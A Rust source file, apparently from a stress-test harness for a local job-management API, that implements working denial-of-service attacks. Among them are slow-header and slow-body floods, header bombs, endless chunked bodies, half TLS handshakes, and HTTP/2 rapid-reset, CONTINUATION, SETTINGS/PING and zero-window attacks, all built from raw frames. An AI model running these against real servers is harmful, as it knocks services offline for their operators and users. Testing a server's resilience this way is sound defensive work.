//! Each attack, of any size: it says when it has begun in earnest, and goes on until it is dropped.

use std::future::pending;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::task::JoinSet;

use super::site::Site;
use crate::given::job;
use crate::tls::http2::{HEADERS, RST_STREAM, SETTINGS, frame};
use crate::wire::create_head;

const HEAD: &str = "GET /livez HTTP/1.1\r\nHost: localhost\r\n";
const LIST: &str = "GET /api/eks-list-jobs?limit=500 HTTP/1.1\r\nHost: localhost\r\n\r\n";
const EVENTS: &str = "GET /api/eks-watch-jobs HTTP/1.1\r\nHost: localhost\r\n\r\n";
/// What begins HTTP/2, with settings that give each stream a window of one byte.
pub(super) const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\x06\x04\0\0\0\0\0\0\x04\0\0\0\x01";
/// The same with a window of none.
pub(super) const SHUT: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\x06\x04\0\0\0\0\0\0\x04\0\0\0\0";
pub(super) const DATA: u8 = 0;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Attack {
    Silent,
    IdleAfterRequest,
    SlowHeads,
    LongHeads,
    SlowBodies,
    WholeBodies,
    BodiesByteByByte,
    EndlessBodies,
    BodiesLabelledGzip,
    HeaderBombs,
    AbsurdQueries,
    UnreadPipelines,
    UnreadReplies,
    UnreadStreams,
    HalfHandshakes,
    RapidResets,
    Continuations,
    SettingsAndPings,
    TinyWindows,
    ClosedWindows,
    StalledBodies,
}

impl Attack {
    pub(super) const PLAIN: [Self; 14] = [
        Self::Silent,
        Self::IdleAfterRequest,
        Self::SlowHeads,
        Self::LongHeads,
        Self::SlowBodies,
        Self::WholeBodies,
        Self::BodiesByteByByte,
        Self::EndlessBodies,
        Self::BodiesLabelledGzip,
        Self::HeaderBombs,
        Self::AbsurdQueries,
        Self::UnreadPipelines,
        Self::UnreadReplies,
        Self::UnreadStreams,
    ];
    /// Those of them that hold for HTTP/1.1 over TLS in another way, and those of TLS and HTTP/2 alone.
    pub(super) const TLS: [Self; 10] = [
        Self::SlowHeads,
        Self::SlowBodies,
        Self::UnreadReplies,
        Self::HalfHandshakes,
        Self::RapidResets,
        Self::Continuations,
        Self::SettingsAndPings,
        Self::TinyWindows,
        Self::ClosedWindows,
        Self::StalledBodies,
    ];

    const fn is_http2(self) -> bool {
        matches!(
            self,
            Self::RapidResets
                | Self::Continuations
                | Self::SettingsAndPings
                | Self::TinyWindows
                | Self::ClosedWindows
                | Self::StalledBodies
        )
    }

    /// With so many connections. `begun` is called when as much is held as this attack holds at a time.
    pub(super) async fn run(self, site: Site, many: usize, begun: impl FnOnce()) {
        let site = site.offering(if self.is_http2() { "h2" } else { "http/1.1" });
        match self {
            Self::Silent => held(&site, many, b"", begun).await,
            Self::IdleAfterRequest => held(&site, many, format!("{HEAD}\r\n").as_bytes(), begun).await,
            Self::SlowHeads => trickled(&site, many, HEAD.as_bytes(), b"X", begun).await,
            Self::LongHeads => {
                let long = format!("{HEAD}X-Long: {}", "a".repeat(31 << 10));
                trickled(&site, many, long.as_bytes(), b"a", begun).await;
            }
            Self::SlowBodies => {
                let sent = create_head("Content-Length: 1000000") + &" ".repeat(100_000);
                trickled(&site, many, sent.as_bytes(), b" ", begun).await;
            }
            Self::WholeBodies => {
                // The first makes the job; to the others the cluster says that it is there.
                let body = job("whole").to_string().replace("busybox", &"a".repeat(1_000_000));
                let head = create_head(&format!("Connection: close\r\nContent-Length: {}", body.len()));
                again_and_again(&site, many, (head + &body).into_bytes(), begun).await;
            }
            Self::BodiesByteByByte => {
                let sent = create_head("Transfer-Encoding: chunked") + &"1\r\n \r\n".repeat(200_000);
                trickled(&site, many, sent.as_bytes(), b"1\r\n \r\n", begun).await;
            }
            Self::EndlessBodies => {
                let chunk = format!("10000\r\n{}\r\n", " ".repeat(0x10000));
                let sent = create_head("Transfer-Encoding: chunked") + &chunk.repeat(40);
                again_and_again(&site, many, sent.into_bytes(), begun).await;
            }
            Self::BodiesLabelledGzip => {
                let sent = create_head("Content-Encoding: gzip\r\nContent-Length: 100000").into_bytes();
                again_and_again(&site, many, [sent, vec![0x1f; 100_000]].concat(), begun).await;
            }
            Self::HeaderBombs => {
                let lines = (0..4000).map(|number| format!("X-{number}: a\r\n")).collect::<Vec<_>>().concat();
                again_and_again(&site, many, format!("{HEAD}{lines}\r\n").into_bytes(), begun).await;
            }
            Self::AbsurdQueries => again_and_again(&site, many, absurd_queries().into_bytes(), begun).await,
            Self::UnreadPipelines => held(&site, many, format!("{HEAD}\r\n").repeat(600).as_bytes(), begun).await,
            Self::UnreadReplies => held(&site, many, LIST.as_bytes(), begun).await,
            Self::UnreadStreams => held(&site, many, EVENTS.as_bytes(), begun).await,
            Self::HalfHandshakes => {
                // The beginning of a ClientHello that says it is long.
                let mut open = Vec::new();
                for number in 0..many {
                    let Ok(mut tcp) = site.tcp(number).await else { continue };
                    let _ =
                        tcp.write_all(&[&[0x16, 3, 1, 0x3f, 0, 1, 0, 0x3e, 0xfc, 3, 3][..], &[7; 8000]].concat()).await;
                    open.push(tcp);
                }
                begun();
                pending::<()>().await;
            }
            Self::RapidResets => {
                let pair = |n: u32| [request(2 * n + 1, "/metrics", 5), reset(2 * n + 1)].concat();
                let sent = [PREFACE.to_vec(), (0..2000).flat_map(pair).collect()].concat();
                again_and_again(&site, many, sent, begun).await;
            }
            Self::Continuations => {
                let more = frame(CONTINUATION, 0, 1, &[0x00, 1, b'x', 1, b'a'].repeat(2000));
                let sent = [PREFACE.to_vec(), request(1, "/livez", 1), more.repeat(100)].concat();
                again_and_again(&site, many, sent, begun).await;
            }
            Self::SettingsAndPings => {
                let both = [frame(SETTINGS, 0, 0, &[]), frame(PING, 0, 0, &[0; 8])].concat();
                again_and_again(&site, many, [PREFACE.to_vec(), both.repeat(5000)].concat(), begun).await;
            }
            Self::TinyWindows | Self::ClosedWindows => {
                let preface = if self == Self::TinyWindows { PREFACE } else { SHUT };
                let list = |n: u32| request(2 * n + 1, "/api/eks-list-jobs?limit=500", 5);
                let sent = [preface.to_vec(), (0..100).flat_map(list).collect()].concat();
                held(&site, many, &sent, begun).await;
            }
            Self::StalledBodies => {
                let create = |n: u32| [create(2 * n + 1), frame(DATA, 0, 2 * n + 1, &[b' '; 2500])].concat();
                let sent = [PREFACE.to_vec(), (0..100).flat_map(create).collect()].concat();
                held(&site, many, &sent, begun).await;
            }
        }
    }
}

/// Connections on which this was sent, and nothing is read.
async fn held(site: &Site, many: usize, sent: &[u8], begun: impl FnOnce()) {
    let open = site.connections(many, sent).await;
    begun();
    pending::<()>().await;
    drop(open);
}

/// The same, with a little more on each from time to time, so that none is silent.
async fn trickled(site: &Site, many: usize, sent: &[u8], more: &[u8], begun: impl FnOnce()) {
    let mut open = site.connections(many, sent).await;
    begun();
    loop {
        for (number, connection) in open.iter_mut().enumerate() {
            if connection.write_all(more).await.is_err()
                && let Ok(mut next) = site.connect(number).await
            {
                let _ = next.write_all(sent).await;
                *connection = next;
            }
            tokio::task::yield_now().await;
        }
    }
}

/// Attackers that send this, read until they are thrown out, and begin anew.
async fn again_and_again(site: &Site, many: usize, sent: Vec<u8>, begun: impl FnOnce()) {
    let mut all = JoinSet::new();
    for number in 0..many {
        let (site, sent) = (site.clone(), sent.clone());
        all.spawn(async move {
            loop {
                if let Ok(connection) = site.connect(number).await {
                    let (mut reads, mut writes) = tokio::io::split(connection);
                    tokio::select! {
                        () = async { let _ = writes.write_all(&sent).await; pending::<()>().await } => {}
                        () = async { let _ = reads.read_to_end(&mut Vec::new()).await; } => {}
                    }
                }
                tokio::task::yield_now().await;
            }
        });
    }
    begun();
    all.join_next().await;
}

/// Pipelined; the last closes.
fn absurd_queries() -> String {
    let get = |query: &str| format!("GET /api/eks-get-job-status?{query} HTTP/1.1\r\nHost: localhost\r\n\r\n");
    let many = (0..5000).map(|number| format!("a{number}=&")).collect::<Vec<_>>().concat();
    let nested = format!("job_name=%{}", "25".repeat(15 << 10));
    let pluses = format!("job_name={}", "+".repeat(30 << 10));
    [&*"&".repeat(30 << 10), &many[..30 << 10], &nested, &pluses].map(get).concat()
        + "GET /livez HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"
}

/// GET over HTTP/2, with these flags.
pub(super) fn request(stream: u32, path: &str, flags: u8) -> Vec<u8> {
    let path = [&[0x04, u8::try_from(path.len()).unwrap()], path.as_bytes()].concat();
    frame(HEADERS, flags, stream, &[&[0x82, 0x87][..], &path, &[0x01, 9], b"localhost"].concat())
}

/// The head of a create-job request over HTTP/2, whose body follows.
pub(super) fn create(stream: u32) -> Vec<u8> {
    let json = [&[0x0f, 0x10, 16][..], b"application/json"].concat();
    let path = [&[0x04, 19][..], b"/api/eks-create-job"].concat();
    frame(HEADERS, 4, stream, &[&[0x83, 0x87][..], &path, &[0x01, 9], b"localhost", &json].concat())
}

fn reset(stream: u32) -> Vec<u8> {
    frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())
}
